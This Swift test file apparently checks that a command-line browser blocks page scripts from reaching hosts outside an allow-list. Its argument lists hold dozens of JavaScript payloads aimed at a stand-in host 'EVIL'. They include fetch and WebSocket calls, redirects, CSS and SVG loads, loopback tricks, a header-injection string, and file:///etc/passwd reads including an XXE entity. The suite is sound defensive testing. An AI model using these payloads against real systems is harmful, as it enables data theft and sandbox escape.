import Foundation
import TestSupport
import Testing

/// No request of a script leaves the list: not by `fetch`, by `XMLHttpRequest`, by a redirect, by the
/// question before a request, by another port, or to this machine.
@Suite("Doors of scripts") struct ScriptDoorTests {
    @Test("a page's scripts ask, and nobody outside of the list is asked", arguments: scriptDoors)
    func scripts(door: Door) async throws {
        let scenario = Scenario()
        guard case .page(let body, let type, let headers) = door.attempt else {
            Issue.record("\(door) is no page")
            return
        }
        let tools = """
            const done = t => {
              const p = document.createElement('p'); p.append(t); document.body.append(p) };
            const get = (url, init) => fetch(url, init).then(
              async r => done('GOT ' + r.type + ' ' + await r.text()), () => done('REFUSED'));
            const xhr = (method, url, body, set) => { const x = new XMLHttpRequest();
              x.onload = () => done('GOT ' + x.responseText); x.onerror = () => done('REFUSED');
              x.open(method, url); if (set) set(x); x.send(body) };
            const sock = (url, ...more) => { try { const s = new WebSocket(url, ...more);
              s.onopen = () => done('GOT'); s.onmessage = e => done('GOT ' + e.data);
              s.onclose = e => done('REFUSED ' + e.code) } catch (e) { done('REFUSED ' + e.name) } };
            """
        scenario.servers.page(
            "/\(scenario.id)",
            scenario.filled("<body><p>SHOWN</p><script>\(tools)\(body)</script>"), type: type,
            headers: scenario.filled(headers))
        scenario.servers.route(
            "/\(scenario.id)-to-evil",
            "HTTP/1.1 307 Moved\r\nAccess-Control-Allow-Origin: *\r\nLocation: "
                + scenario.filled("http://EVIL/x")
                + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        let result = try await scenario.garth(
            rules: ["GOOD", "ALSO"], ["--dump", "--javascript", "on", "http://GOOD/ID"])
        #expect(result.output.contains("SHOWN"), "\(result)")
        #expect(result.output.contains("REFUSED"), "\(result)")
        #expect(!result.output.contains("GOT"), "\(result)")
        #expect(!result.output.contains("root:"))
        #expect(result.status == 0)
        scenario.expectNoTrespass()
    }

    @Test(
        "what scripts make, and what they lead to, asks nobody outside of the list",
        arguments: makers)
    func made(door: Door) async throws {
        let scenario = Scenario()
        guard case .page(let body, let type, let headers) = door.attempt else {
            Issue.record("\(door) is no page")
            return
        }
        let tools = """
            const make = (name, attributes, parent = document.body) => {
              const e = document.createElement(name);
              for (const [n, v] of Object.entries(attributes)) e.setAttribute(n, v);
              parent.append(e); return e };
            const draw = (name, attributes) => {
              const ns = 'http://www.w3.org/2000/svg', e = document.createElementNS(ns, name);
              for (const [n, v] of Object.entries(attributes)) e.setAttribute(n, v);
              const svg = document.createElementNS(ns, 'svg'); svg.append(e);
              document.body.append(svg) };
            """
        scenario.servers.page(
            "/\(scenario.id)",
            scenario.filled(
                "<body><p id=p>SHOWN</p><script>\(tools)\ntry { \(body) } catch {}</script>"),
            type: type, headers: scenario.filled(headers))
        let result = try await scenario.garth(
            rules: ["GOOD", "ALSO"], ["--dump", "--javascript", "on", "http://GOOD/ID"])
        #expect(!result.output.contains("root:"))
        #expect(
            result.status == 77 || (result.status == 0 && result.output.contains("SHOWN")),
            "\(result)")
        scenario.expectNoTrespass()
    }

    static let makers: [Door] = [
        "make('script', { src: 'http://EVIL/a.js' })",
        "make('script', { src: 'http://EVIL/a.js', type: 'module' })",
        "import('http://EVIL/a.js').catch(() => {})",
        "make('script', { type: 'importmap' }).textContent = "
            + "JSON.stringify({ imports: { a: 'http://EVIL/a.js' } }); import('a').catch(() => {})",
        "document.write('<script src=http://EVIL/a.js></' + 'script>')",
        "make('link', { rel: 'stylesheet', href: 'http://EVIL/a.css' })",
        "make('style', {}).textContent = '@import url(http://EVIL/a.css);'",
        "make('style', {}).textContent = 'p { background: url(http://EVIL/a.png) }"
            + " @font-face { font-family: f; src: url(http://EVIL/f) } p { font-family: f }'",
        "make('style', {}).sheet.insertRule('@import \"http://EVIL/a.css\"')",
        "const s = new CSSStyleSheet(); s.replaceSync('p { list-style: url(http://EVIL/a.png) }');"
            + " document.adoptedStyleSheets = [s]; p.style.content = 'url(http://EVIL/b.png)'",
        "make('img', { src: 'http://EVIL/a.png', srcset: 'http://EVIL/b.png 2x' });"
            + " new Image().src = 'http://EVIL/c.png'",
        "make('div', {}).innerHTML ="
            + " '<picture><source srcset=http://EVIL/a.png><img src=http://EVIL/b.png>'",
        "draw('image', { href: 'http://EVIL/a.png' })",
        "draw('use', { href: 'http://EVIL/a.svg#b' })",
        "draw('script', { href: 'http://EVIL/a.js' })",
        "draw('feImage', { href: 'http://EVIL/a.png' })",
        "make('iframe', { src: 'http://EVIL/' })",
        "make('iframe', { srcdoc: '<img src=http://EVIL/a.png><iframe src=http://EVIL/>' })",
        "make('iframe', {}).contentWindow.fetch('http://EVIL/')",
        "make('iframe', { name: 'f' }); open('http://EVIL/', 'f')",
        "make('object', { data: 'http://EVIL/' }); make('embed', { src: 'http://EVIL/' })",
        "make('video', { src: 'http://EVIL/v', poster: 'http://EVIL/p' });"
            + " make('audio', { src: 'http://EVIL/a' }); new Audio('http://EVIL/b').play()"
            + ".catch(() => {})",
        "for (const rel of ['preload', 'prefetch', 'preconnect', 'dns-prefetch', 'modulepreload',"
            + " 'prerender', 'icon', 'manifest']) make('link', { rel, as: 'script',"
            + " href: 'http://EVIL/' + rel })",
        "make('script', { type: 'speculationrules' }).textContent ="
            + " '{\"prefetch\":[{\"urls\":[\"http://EVIL/\"]}]}'",
        "make('a', { href: 'http://EVIL/', ping: 'http://EVIL/ping' }).click()",
        "make('meta', { 'http-equiv': 'refresh', content: '0;url=http://EVIL/' }, document.head)",
        "location = 'http://EVIL/'",
        "location.replace('http://EVIL/')",
        "location.host = 'EVIL'",
        "open('http://EVIL/')",
        "make('form', { action: 'http://EVIL/', method: 'post' }).submit()",
        "const f = make('form', {}); make('button', { formaction: 'http://EVIL/' }, f).click()",
        "navigator.sendBeacon('http://EVIL/', 'b')",
        "new EventSource('http://EVIL/')",
        "new FontFace('f', 'url(http://EVIL/f)').load().catch(() => {})",
        "const x = new DOMParser().parseFromString('<!DOCTYPE a SYSTEM \"http://EVIL/a.dtd\" ["
            + "<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>', 'text/xml');"
            + " p.append(x.documentElement.textContent)",
        "p.attachShadow({ mode: 'open' }).innerHTML ="
            + " '<slot></slot><img src=http://EVIL/a.png><link rel=stylesheet href=http://EVIL/a.css>'",
        "Object.prototype.url = 'http://EVIL/'; Array.prototype[0] = 'http://EVIL/';"
            + " String.prototype.toString = () => 'http://EVIL/'; fetch('/ID').catch(() => {})",
    ].map { Door($0, .page($0)) }

    static let scriptDoors: [Door] = [
        "get('http://EVIL/a')",
        "get('//EVIL/a', { mode: 'no-cors' })",
        "get('http://EVIL/a', { method: 'POST', body: 'b', mode: 'no-cors', keepalive: true })",
        "get('http://EVIL/a', { method: 'PUT', headers: { 'X-A': 'b' } })",
        "get(new Request('http://EVIL/a'), { cache: 'force-cache', credentials: 'include' })",
        "get('http:\\\\\\\\EVIL\\\\a')",
        "get('http://GOODNAME@EVIL/')",
        "document.head.innerHTML = '<base href=http://EVIL/>'; get('a')",
        "xhr('GET', 'http://EVIL/a')",
        "xhr('PROPFIND', 'http://EVIL/a', 'b', x => x.setRequestHeader('X-A', 'b'))",
        "xhr('POST', 'http://EVIL/a', 'b', x => { x.withCredentials = true;"
            + "x.upload.onload = () => {} })",
        "get('/ID-to-evil')",
        "get('/ID-to-evil', { method: 'POST', body: 'b' })",
        "get('http://ALSO/ID-to-evil')",
        "get('http://ALSO/ID-to-evil', { mode: 'no-cors' })",
        "xhr('GET', '/ID-to-evil')",
        "const x = new XMLHttpRequest(); x.open('GET', '/ID-to-evil', false);"
            + "try { x.send(); done('GOT') } catch (e) { done('REFUSED') }",
        "const x = new XMLHttpRequest(); x.open('GET', 'http://EVIL/', false);"
            + "try { x.send(); done('GOT') } catch (e) { done('REFUSED') }",
        "get('http://GOODNAME:1/')",
        "get('http://GOODNAME:65535/', { mode: 'no-cors' })",
        "get('http://127.0.0.9:PORT/')",
        "get('http://127.0.0.1:PORT/', { mode: 'no-cors' })",
        "get('http://0x7f000009:PORT/')",
        "get('http://[::1]:PORT/')",
        "get('http://localhost:PORT/')",
        "get('file:///etc/passwd')",
        "get('file://localhost/etc/passwd', { mode: 'no-cors' })",
        "xhr('GET', 'file:///etc/passwd')",
        "get('about:start')",
        "get('ftp://EVIL/')",
        "get('ws://EVIL/')",
        "sock('ws://EVIL/')",
        "sock('wss://EVIL/')",
        "sock('http://EVIL/')",
        "sock('//EVIL/')",
        "sock('ws:\\\\\\\\EVIL')",
        "sock('ws://GOODNAME@EVIL/')",
        "sock('ws://GOODNAME:pass@EVIL/chat')",
        "sock('ws://GOODNAME:1/')",
        "sock('ws://GOODNAME:22/')",
        "sock('ws://127.0.0.9:PORT/')",
        "sock('ws://0x7f000009:PORT/')",
        "sock('ws://[::1]:PORT/')",
        "sock('ws://[::ffff:127.0.0.9]:PORT/')",
        "sock('ws://localhost:PORT/')",
        "sock('ws://GOOD/ID#EVIL')",
        "sock('ws://GOOD/ID-to-evil')",
        "sock('ws://ALSO/ID-to-evil')",
        "sock('ws://EVIL/', ['a', 'b'])",
        "sock('ws://GOOD/ID', 'a\\r\\nHost: EVIL')",
        "sock('ws://GOOD/ID', ['a', 'a'])",
        "document.head.innerHTML = '<base href=http://EVIL/>'; sock('/a')",
        "sock('file:///etc/passwd')",
        "for (let i = 0; i < 50; i++) sock('ws://EVIL/' + i)",
        "setTimeout(() => sock('ws://EVIL/late'), 500)",
        "const f = document.createElement('iframe'); document.body.append(f);"
            + " const s = new f.contentWindow.WebSocket('ws://EVIL/'); s.onopen = () => done('GOT');"
            + " s.onclose = () => done('REFUSED')",
        "WebSocket.prototype.constructor = Object; Object.prototype.url = 'ws://EVIL/';"
            + " String.prototype.toString = () => 'ws://EVIL/'; sock('ws://GOOD/ID')",
        "history.pushState(null, '', '/other'); get('http://EVIL/a')",
        "get('http://EVIL/', { referrer: 'http://EVIL/', integrity: 'sha256-x' })",
        "Promise.all(Array.from({ length: 50 }, (_, i) => get('http://EVIL/' + i)))",
        "setTimeout(() => get('http://EVIL/late'), 500)",
    ].map { Door($0, .page($0)) }
}
